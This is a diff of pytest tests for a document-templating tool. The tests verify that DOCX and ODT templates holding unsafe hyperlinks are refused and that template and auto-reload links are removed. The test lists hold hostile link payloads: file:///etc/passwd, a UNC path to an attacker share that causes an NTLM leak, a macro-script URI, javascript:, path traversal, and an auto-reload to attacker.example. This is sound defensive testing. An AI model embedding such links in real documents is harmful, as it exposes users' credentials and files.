@@ -455,3 +455,125 @@ def test_embedded_object_cannot_climb_above_the_package():
         "</draw:frame></office:chart></office:body></office:document-content>"
     )
     _refused(_odt(extra={"Object 1/content.xml": chart}), "external_reference")
+
+
+# === HYPERLINKS: only web pages, email addresses, phone numbers, bookmarks ===
+
+UNSAFE_LINKS = [
+    "file:///etc/passwd",
+    "file://attacker.example/share/x",
+    "\\\\attacker\\share\\x.docx",  # UNC path: NTLM leak when clicked
+    "vnd.sun.star.script:Standard.Module1.Main?language=Basic&location=application",
+    "javascript:alert(1)",
+    "../../secret.odt",  # resolved against the server's folder by LibreOffice
+    " FILE:///etc/passwd",
+    "ht\ttp:x",
+    "http:\\\\attacker\\share",
+]
+SAFE_LINKS = [
+    "https://example.com/?a=1&b=2",
+    "HTTP://example.com",
+    "mailto:contact@example.fr",
+    "tel:+33612457890",
+    "#Signature",
+]
+
+
+@pytest.mark.parametrize("target", UNSAFE_LINKS)
+def test_docx_hyperlink_to_anything_but_web_mail_phone_is_refused(target):
+    error = _refused(
+        _docx(rels=[("rId30", REL + "hyperlink", target, True)]), "unsafe_link"
+    )
+    assert "word/_rels/document.xml.rels" in error.message_en
+
+
+@pytest.mark.parametrize("target", SAFE_LINKS)
+def test_docx_hyperlinks_to_web_mail_phone_are_accepted(target):
+    data = _docx(rels=[("rId30", REL + "hyperlink", target, True)])
+    assert list_markers(data).names == ["x"]
+
+
+@pytest.mark.parametrize(
+    "instr",
+    [
+        'HYPERLINK "file:///etc/passwd"',
+        'HYPERLINK \\o "https://example.com" "file:///etc/passwd"',
+        'HYPERLINK "file:///C:/x.docx" \\l "Top"',
+        "HYPERLINK vnd.sun.star.script:Standard.Module1.Main",
+    ],
+)
+def test_docx_hyperlink_field_to_a_file_is_refused(instr):
+    _refused(
+        _docx(fx.para(fx.run("[data.x]"), fx.complex_field(instr, "x"))), "unsafe_link"
+    )
+
+
+@pytest.mark.parametrize(
+    "instr",
+    [
+        'HYPERLINK \\l "Top"',
+        'HYPERLINK "mailto:a@example.fr" \\o "file://x" \\t "_blank"',
+    ],
+)
+def test_docx_hyperlink_field_to_a_bookmark_or_mail_is_accepted(instr):
+    data = _docx(fx.para(fx.run("[data.x]"), fx.complex_field(instr, "x")))
+    assert list_markers(data).names == ["x"]
+
+
+def _odt_link(target, tag="text:a"):
+    from xml.sax.saxutils import quoteattr
+
+    return _odt(
+        fx.opara(
+            "[data.x] ",
+            f'<{tag} xlink:type="simple" xlink:href={quoteattr(target)}>site</{tag}>',
+        )
+    )
+
+
+@pytest.mark.parametrize("target", UNSAFE_LINKS)
+def test_odt_hyperlink_to_anything_but_web_mail_phone_is_refused(target):
+    error = _refused(_odt_link(target), "unsafe_link")
+    assert "content.xml" in error.message_en
+
+
+@pytest.mark.parametrize("target", SAFE_LINKS)
+def test_odt_hyperlinks_to_web_mail_phone_are_accepted(target):
+    assert list_markers(_odt_link(target)).names == ["x"]
+
+
+def _odt_with_meta(meta_items):
+    data = _odt()
+    meta = fx.ODT_META.replace("</office:meta>", meta_items + "</office:meta>")
+    source = zipfile.ZipFile(io.BytesIO(data))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            content = (
+                meta.encode() if info.filename == "meta.xml" else source.read(info)
+            )
+            target.writestr(info, content)
+    return out.getvalue()
+
+
+def test_odt_template_link_and_auto_reload_are_dropped_from_the_result():
+    data = _odt_with_meta(
+        '<meta:template xlink:type="simple" xlink:actuate="onRequest" '
+        'xlink:title="Papier" xlink:href="file:///C:/Modeles/papier.ott" '
+        'meta:date="2025-01-01T00:00:00"/>'
+        '<meta:auto-reload xlink:type="simple" xlink:show="replace" '
+        'xlink:actuate="onLoad" xlink:href="http://attacker.example/x.odt" '
+        'meta:delay="PT0S"/>'
+    )
+    assert list_markers(data).names == ["x"]
+    out = zipfile.ZipFile(io.BytesIO(render(data, {"x": "1"})))
+    meta = out.read("meta.xml")
+    assert b"papier.ott" not in meta and b"attacker" not in meta
+    assert b"<dc:title>Courrier</dc:title>" in meta
+
+
+def test_odt_meta_without_links_is_kept_as_it_is():
+    data = _odt()
+    out = zipfile.ZipFile(io.BytesIO(render(data, {"x": "1"})))
+    original = zipfile.ZipFile(io.BytesIO(data))
+    assert out.read("meta.xml") == original.read("meta.xml")
